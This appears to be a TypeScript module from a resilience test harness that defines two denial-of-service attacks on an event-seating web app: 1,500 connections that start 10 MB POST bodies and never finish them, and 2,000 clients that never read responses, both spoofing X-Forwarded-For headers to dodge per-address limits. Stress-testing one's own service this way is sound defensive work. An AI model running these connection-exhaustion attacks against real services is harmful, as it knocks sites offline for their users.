import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, createTally, openConnection } from '../attack.ts';

/** Connections that are opened every EVERY_MS. Few, because the attack keeps all of them open. */
const AT_ONCE = 10;
const EVERY_MS = 40;

const runConnections = (
  heads: { head: string[]; rest: string; reads: boolean }[],
): Attack['run'] => {
  return async (target, signal) => {
    const { count, summary } = createTally();
    for (const [index, { head, rest, reads }] of heads.entries()) {
      if (index % AT_ONCE === 0) await sleep(EVERY_MS);
      const socket = openConnection(target, head, rest, signal).on('close', () => count('closed'));
      if (reads) socket.on('data', (data) => count(String(data).slice(9, 12)));
      else socket.pause();
    }
    if (!signal.aborted) await new Promise((over) => signal.addEventListener('abort', over));
    return `${heads.length} held: ${summary()}`;
  };
};

const from = (index: number) => `X-Forwarded-For: 198.51.100.${index % 4}`;

export const unfinishedBodyAttack: Attack = {
  name: '1,500 bodies of 10 MB that are never finished',
  threat: 'bodies that are too large, never finished, or one byte at a time',
  run: (target, signal) => {
    const head = (index: number) => [
      'POST /rest/v1/rpc/change_seating HTTP/1.1',
      'Content-Type: application/json',
      'Content-Length: 10000000',
      `Authorization: Bearer ${target.paidToken}`,
      from(index),
    ];
    const started = '['.padEnd(100_000, ' ');
    const heads = Array.from({ length: 1500 }, (_, index) => ({
      head: head(index),
      rest: started,
      reads: true,
    }));
    return runConnections(heads)(target, signal);
  },
};

export const slowReaderAttack: Attack = {
  name: '2,000 clients that never read',
  threat: 'responses that are never read',
  run: (target, signal) => {
    const paths = [
      `/rest/v1/rpc/get_event_guests?event_uuid=${target.ownEvent}`,
      `/seating-plan/${target.ownEvent}`,
    ];
    const heads = Array.from({ length: 2000 }, (_, index) => ({
      head: [`GET ${paths[index % 2]} HTTP/1.1`, from(index)],
      rest: '',
      reads: false,
    }));
    return runConnections(heads)(target, signal);
  },
};
